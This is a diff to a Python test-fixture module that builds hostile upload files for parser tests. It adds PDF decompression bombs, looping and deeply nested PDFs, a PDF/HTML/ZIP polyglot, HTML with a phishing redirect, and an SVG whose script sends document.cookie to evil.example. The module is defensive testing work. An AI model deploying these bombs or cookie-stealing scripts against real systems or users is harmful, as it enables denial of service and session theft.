@@ -2,15 +2,18 @@
 
 Every helper returns ``bytes``. The PDFs are written by a small PDF writer below (standard
 Helvetica font, WinAnsi encoding, one uncompressed or Flate content stream per page), so they
-need no library at all; only :func:`make_encrypted_pdf` uses pypdf (a dev dependency) to encrypt.
+need no library at all; only :func:`make_encrypted_pdf` uses pypdf to encrypt. The hostile
+files (bombs, loops, deep nesting, polyglots) are built here too, in a few milliseconds.
 
 Use them in upload tests, e.g. ``make_text_pdf(["Page one.", "Page two."])`` or ``PNG_BYTES``.
 """
 
 from __future__ import annotations
 
+import functools
 import gzip
 import io
+import re
 import struct
 import textwrap
 import zipfile
@@ -25,6 +28,7 @@ __all__ = [
     "EXE_BYTES",
     "GIF_BYTES",
     "GZIP_BYTES",
+    "HOSTILE_HTML_FRAGMENTS",
     "HTML_DESCRIPTION",
     "HTML_FORBIDDEN_FRAGMENTS",
     "HTML_PARAGRAPHS",
@@ -35,14 +39,23 @@ __all__ = [
     "MARKDOWN_TEXT",
     "PNG_BYTES",
     "SVG_BYTES",
+    "SVG_SCRIPT_BYTES",
     "ZIP_BYTES",
     "lorem_page",
     "make_blank_pdf",
+    "make_broken_xref_pdf",
+    "make_circular_page_tree_pdf",
+    "make_circular_reference_pdf",
+    "make_deeply_nested_pdf",
     "make_empty_html",
     "make_encrypted_pdf",
     "make_form_bomb_pdf",
+    "make_hostile_html",
     "make_html",
     "make_image_only_pdf",
+    "make_inflation_bomb_pdf",
+    "make_many_pages_pdf",
+    "make_pdf_html_zip_polyglot",
     "make_slow_pdf",
     "make_text_pdf",
     "make_truncated_pdf",
@@ -237,6 +250,193 @@ def make_form_bomb_pdf(depth: int = 6, fan_out: int = 10) -> bytes:
 
 
 # --------------------------------------------------------------------------------------------
+# Hostile PDFs (each small on disk; what makes them hostile is what a reader does with them)
+# --------------------------------------------------------------------------------------------
+
+_FONT_RESOURCES = b"<< /Font << /F1 3 0 R >> >>"
+
+
+def _text_ops(text: str) -> bytes:
+    return b"BT /F1 12 Tf 50 700 Td " + _pdf_string(text) + b" Tj ET"
+
+
+def _reversed(code: int, bits: int) -> int:
+    return int(format(code, f"0{bits}b")[::-1], 2)
+
+
+@functools.cache
+def _zlib_zeros(groups: int) -> bytes:
+    """A zlib stream that inflates to ``1 + 2064 * groups`` zero bytes, written directly (one
+    fixed-Huffman block: the literal 0, then matches of length 258 at distance 1), so that
+    gigabytes of output cost no time to make. Huffman codes go in bit-reversed, LSB first."""
+    out = bytearray(b"\x78\x01")  # zlib header: deflate, 32 KB window, no dictionary
+    acc = used = 0
+
+    def put(value: int, bits: int) -> None:
+        nonlocal acc, used
+        acc |= value << used
+        used += bits
+        while used >= 8:
+            out.append(acc & 0xFF)
+            acc >>= 8
+            used -= 8
+
+    put(0b011, 3)  # last block, fixed Huffman codes
+    put(_reversed(0b00110000, 8), 8)  # literal 0
+    start = len(out)
+    # Eight matches are 8 x (8 + 5) = 104 bits, 13 whole bytes: past this point the stream
+    # repeats every 13 bytes (the literal's last bits and a distance code's are all zeros).
+    for _ in range(8 * min(groups, 2)):
+        put(_reversed(0b11000101, 8), 8)  # length 258 (code 285)
+        put(0, 5)  # distance 1 (code 0)
+    if groups > 2:
+        unit = bytes(out[start : start + 13])
+        total_bits = 11 + 104 * groups
+        whole = total_bits // 8 - (start - 2)
+        out[start:] = (unit * (whole // 13 + 1))[:whole]
+        used = total_bits % 8
+        acc = unit[whole % 13] & ((1 << used) - 1)
+    put(0, 7)  # end of block
+    if used:
+        out.append(acc)
+    size = 1 + 2064 * groups
+    out += struct.pack(">I", ((size % 65521) << 16) | 1)  # Adler-32 of that many zeros
+    return bytes(out)
+
+
+def _deflated_zeros(megabytes: int) -> bytes:
+    return _zlib_zeros(-(-megabytes * (1 << 20) // 2064))
+
+
+def make_inflation_bomb_pdf(megabytes: int = 2048, *, filters: str = "flate") -> bytes:
+    """A one-page PDF of a few kilobytes whose content stream inflates to ``megabytes`` MB of
+    zeros. ``filters="flate"``: ``/Filter [/FlateDecode /FlateDecode]`` (zeros deflated, then
+    deflated again); ``"runlength"``: ``[/FlateDecode /FlateDecode /RunLengthDecode]`` (runs of
+    128 zeros, deflated)."""
+    if filters == "flate":
+        data = zlib.compress(_deflated_zeros(megabytes), 9)
+        names = b"[/FlateDecode /FlateDecode]"
+    elif filters == "runlength":
+        runs = megabytes * (1 << 20) // 128
+        compressor = zlib.compressobj(9)
+        run_block = b"\x81\x00" * 65536  # each pair: the byte 0 repeated 257 - 0x81 = 128 times
+        parts = [compressor.compress(run_block) for _ in range(runs // 65536)]
+        parts.append(compressor.compress(b"\x80"))  # end of data
+        parts.append(compressor.flush())
+        data = zlib.compress(b"".join(parts), 9)
+        names = b"[/FlateDecode /FlateDecode /RunLengthDecode]"
+    else:
+        raise ValueError(f"filters must be 'flate' or 'runlength', not {filters!r}")
+    bomb = b"<< /Length %d /Filter %s >>\nstream\n" % (len(data), names) + data + b"\nendstream"
+    return _build_pdf([bomb], resources=_FONT_RESOURCES)
+
+
+def make_deeply_nested_pdf(depth: int = 100_000, *, kind: str = "array") -> bytes:
+    """A PDF whose page carries an object nested ``depth`` levels deep: ``[[[...]]]``
+    (``kind="array"``) or ``<< /A << /A ... >> >>`` (``kind="dict"``). Its text is readable."""
+    if kind == "array":
+        nested = b"[" * depth + b"0" + b"]" * depth
+    elif kind == "dict":
+        nested = b"<< /A " * depth + b"0" + b" >>" * depth
+    else:
+        raise ValueError(f"kind must be 'array' or 'dict', not {kind!r}")
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 5 0 R"
+        b" /PieceInfo 6 0 R >>" % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES),
+        _stream(_text_ops("Deeply nested page."), compress=False),
+        nested,
+    ]
+    return _assemble(objects)
+
+
+def make_circular_page_tree_pdf() -> bytes:
+    """A PDF whose page tree contains itself: the root /Pages node lists a /Pages node whose
+    /Kids point back at the root (besides one ordinary page)."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 5 0 R >>"
+        % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES),
+        _stream(_text_ops("A page in a looping tree."), compress=False),
+        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
+    ]
+    return _assemble(objects)
+
+
+def make_circular_reference_pdf() -> bytes:
+    """A one-page PDF full of reference loops: /Resources is an object that refers to
+    itself, /Contents a reference to a reference to the first reference, and the page's
+    /Annots an array that contains itself. Its text is readable."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources 5 0 R"
+        b" /Contents [6 0 R 8 0 R] /Annots 9 0 R >>" % (PAGE_WIDTH, PAGE_HEIGHT),
+        b"<< /Font << /F1 3 0 R >> /Self 5 0 R /Loop << /Back 5 0 R >> >>",
+        _stream(_text_ops("Circular references page."), compress=False),
+        b"8 0 R",  # 7 -> 8 -> 7: a reference chain that never reaches an object
+        b"7 0 R",
+        b"[9 0 R 9 0 R]",
+    ]
+    return _assemble(objects)
+
+
+def make_many_pages_pdf(pages: int = 10_000) -> bytes:
+    """A PDF of ``pages`` pages that all draw the same short text (one shared content
+    stream, so 10,000 pages take about 1 MB)."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"",  # the page tree, filled in below
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        _stream(_text_ops("One of very many pages."), compress=False),
+    ]
+    first = len(objects) + 1
+    for _ in range(pages):
+        objects.append(
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 4 0 R >>"
+            % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES)
+        )
+    kids = b" ".join(b"%d 0 R" % n for n in range(first, first + pages))
+    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)
+    return _assemble(objects)
+
+
+def make_broken_xref_pdf(pages: list[str] | None = None) -> bytes:
+    """A text PDF whose cross-reference table points every object at a wrong offset (and
+    whose startxref points nowhere): a reader has to rebuild the table by scanning."""
+    whole = make_text_pdf(pages or ["Broken xref page one.", "Broken xref page two."])
+
+    def garbage(match: re.Match) -> bytes:
+        return b"%010d 00000 n " % (int(match.group(1)) * 7 + 13)
+
+    broken = re.sub(rb"(\d{10}) 00000 n ", garbage, whole)
+    return re.sub(rb"startxref\n\d+", b"startxref\n999999", broken)
+
+
+def make_pdf_html_zip_polyglot() -> bytes:
+    """A valid text PDF that also carries an HTML page with a script (in a PDF comment right
+    after the header, where a browser sniffing for HTML would find it) and ends with a ZIP
+    archive (whose directory, at the end, is what unzip reads)."""
+    pdf = make_text_pdf(["Polyglot page text."])
+    header, rest = pdf.split(b"\n", 1)
+    payload = b"%<html><body><script>alert('polyglot')</script></body></html>\n"
+    # Insert the comment and shift every xref offset and startxref by its length.
+    shift = len(payload)
+    rest = re.sub(
+        rb"(\d{10}) 00000 n ", lambda m: b"%010d 00000 n " % (int(m.group(1)) + shift), rest
+    )
+    rest = re.sub(
+        rb"startxref\n(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + shift), rest
+    )
+    return header + b"\n" + payload + rest + ZIP_BYTES
+
+
+# --------------------------------------------------------------------------------------------
 # HTML
 # --------------------------------------------------------------------------------------------
 
@@ -313,6 +513,38 @@ def make_html(
     return html.encode(charset)
 
 
+# What make_hostile_html() adds on top of make_html(hostile=True): none may reach the text.
+HOSTILE_HTML_FRAGMENTS = [
+    *HTML_FORBIDDEN_FRAGMENTS,
+    "refresh",
+    "evil.example",
+    "srcdoc",
+    "frame-secret",
+    "data:text/html",
+    "base64",
+    "<script",
+]
+
+
+def make_hostile_html() -> bytes:
+    """An article page with everything of :func:`make_html` plus a ``<meta http-equiv=refresh>``
+    redirect, an ``<iframe srcdoc>``, a ``data:`` link, a ``<base>`` and an ``<object>``."""
+    page = make_html(hostile=True).decode()
+    extra_head = (
+        '<meta http-equiv="refresh" content="0; url=https://evil.example/phish">'
+        '<base href="https://evil.example/">'
+    )
+    extra_body = (
+        '<iframe srcdoc="<script>parent.stealCookies()</script>frame-secret"></iframe>'
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">More</a>'
+        '<object data="https://evil.example/x.swf"></object>'
+        "<p>Every figure above was checked against the published budget documents.</p>"
+    )
+    page = page.replace("</head>", extra_head + "</head>", 1)
+    page = page.replace("</article>", extra_body + "</article>", 1)
+    return page.encode()
+
+
 def make_empty_html() -> bytes:
     """HTML with markup, a script and a style but no text at all."""
     return (
@@ -377,6 +609,12 @@ SVG_BYTES = (
     b'<?xml version="1.0" encoding="UTF-8"?>\n'
     b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
     b"<script>alert(1)</script><text x='0' y='9'>Hello</text></svg>\n"
+)
+# An SVG image that runs a script when opened: refused as an image, whatever its name.
+SVG_SCRIPT_BYTES = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
+    b"<script type=\"text/javascript\">fetch('https://evil.example/?c='+document.cookie)"
+    b"</script><text x='0' y='9'>Looks like text</text></svg>\n"
 )
 ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
 EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
